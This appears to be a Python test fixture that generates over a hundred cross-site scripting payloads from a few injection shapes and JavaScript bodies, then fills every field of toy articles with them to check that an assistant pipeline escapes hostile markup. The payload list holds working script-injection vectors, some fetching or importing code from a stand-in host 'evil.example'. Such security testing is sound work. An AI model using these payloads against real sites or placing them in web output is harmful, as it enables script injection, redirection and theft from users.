"""Texts that have become scripts elsewhere: a hundred and more, made of a few shapes and bodies."""

from collections.abc import Sequence

from assistant.pipeline import Assistant
from corpus.article import Source, article_from_blocks
from tests.toy import toy_assistant

_BODIES = (
    "alert(1)",
    "fetch('//evil.example')",
    "top.location='//evil.example'",
    "document.body.innerHTML=1",
    "import('//evil.example/x.js')",
)
_SHAPES = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js>{}</SCRIPT>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src=//evil.example/p.gif onload="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '"><script>{}</script>',
    "'\"><img src=x onerror={}>",
    '" onmouseover="{}',
    "' autofocus onfocus='{}",
    "javascript:{}",
    "[link](javascript:{})",
    "![x](//evil.example/{})",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<a href="javascript:{}">here</a>',
    "<style>@import '//evil.example';</style>{}",
    "</textarea><script>{}</script>",
    "</template><script>{}</script>",
    "</title><script>{}</script>",
    '<math><mi xlink:href="data:x,<script>{}</script>">',
    "<!--><script>{}</script>-->",
    "{{{{ {} }}}}{{% raw %}}",
    "event: done<br><script>{}</script>",
)
PAYLOADS = tuple(shape.format(body) for shape in _SHAPES for body in _BODIES)


# Several in one text, for a browser, in which every page takes its time.
PACKED = tuple("\n".join(PAYLOADS[first::20]) for first in range(20))


def hostile_assistant(payloads: Sequence[str] = PAYLOADS) -> Assistant:
    """One article for each payload, which stands in every field that an article has."""
    return toy_assistant(
        articles=[
            article_from_blocks(
                slug=f"hostile-{number}",
                title=f"Cover {number} {payload}",
                author=payload,
                missions=[payload, "Soyuz 1"],
                period=payload,
                sources=[Source(payload, payload)],
                updated=payload,
                blocks=[
                    ("heading", f"Section {number} {payload}"),
                    ("paragraph", f"The cover number {number} was cancelled in 1967. {payload}"),
                    ("item", f"The item {number} says {payload}"),
                    ("note", f"The note {number} says {payload}"),
                    ("roster", f"Crew\n{payload}"),
                ],
            )
            for number, payload in enumerate(payloads)
        ],
        questions=(),
    )
